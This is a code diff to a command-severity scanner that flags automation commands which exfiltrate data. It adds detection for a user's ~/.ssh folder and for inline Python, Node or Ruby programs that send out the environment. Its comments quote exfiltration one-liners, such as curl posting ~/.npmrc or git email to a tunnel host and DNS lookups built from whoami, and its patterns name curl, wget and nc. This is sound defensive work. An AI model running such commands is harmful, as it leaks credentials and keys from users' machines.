@@ -16,10 +16,16 @@ const DECODED_OR_FETCHED_AND_RUN = anyOf(
 /** Chat webhooks: a notification's ordinary address, suspicious in automation only as any network use is. */
 const CHAT_WEBHOOK = /hooks\.slack\.com\/services|discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot/i;
 
+/** The home folder's SSH keys as a whole (`tar czf - ~/.ssh`, `zip -r k.zip $HOME/.ssh`): its files are credential stores one by one. */
+const HOME_SSH_FOLDER = /(?:~|\$\{?HOME\}?)\/\.ssh\b/;
+/** Languages of the inline programs a command may run (`python -c`, `node -e`, `ruby -e`). */
+const INLINE_LANGUAGES = ['python', 'js', 'ruby'] as const;
+
 /**
  * How much a command that automation runs on someone's machine deserves a look: high when it pipes a
  * download into a shell, decodes and runs hidden text, looks up a name built from data (DNS
- * exfiltration), sends data while reading a credential store or the whole environment, or reaches a bare public IP or a paste, tunnel or request-capture service (where stolen data goes: `curl -d "$(git config user.email)"
+ * exfiltration), sends data while reading a credential store (the `~/.ssh` folder too) or the whole
+ * environment (in an inline program too), or reaches a bare public IP or a paste, tunnel or request-capture service (where stolen data goes: `curl -d "$(git config user.email)"
  * https://x.trycloudflare.com`), medium when it downloads or reaches the network otherwise, `base`
  * otherwise.
  */
@@ -29,7 +35,9 @@ export function commandSeverity(command: string, base: Severity): Severity {
   // A DNS lookup of a name built from data (`nslookup "$(whoami).x.tld"`): the lookup carries it out.
   if (dnsLookupInShell(command) !== null) return 'high';
   // Credentials or the whole environment sent somewhere (`curl -d "$(cat ~/.npmrc)" …`, `env | curl -d @- …`), whatever the host.
-  if (sendsData(command, 'shell') && (readsCredentialStore(command) || WHOLE_ENVIRONMENT.any?.test(command) === true)) return 'high';
+  if (sendsData(command, 'shell') && (readsCredentialStore(command) || HOME_SSH_FOLDER.test(command) || WHOLE_ENVIRONMENT.any?.test(command) === true)) return 'high';
+  // The same written as an inline program (`python -c "…urlopen(u, data=json.dumps(dict(os.environ))…"`, `node -e "…"`).
+  if (INLINE_LANGUAGES.some((language) => WHOLE_ENVIRONMENT[language]?.test(command) === true && sendsData(command, language))) return 'high';
   if (/\b(?:curl|wget|nc|ncat|Invoke-WebRequest|iwr)\b|https?:\/\//i.test(command)) return base === 'high' ? 'high' : 'medium';
   return base;
 }
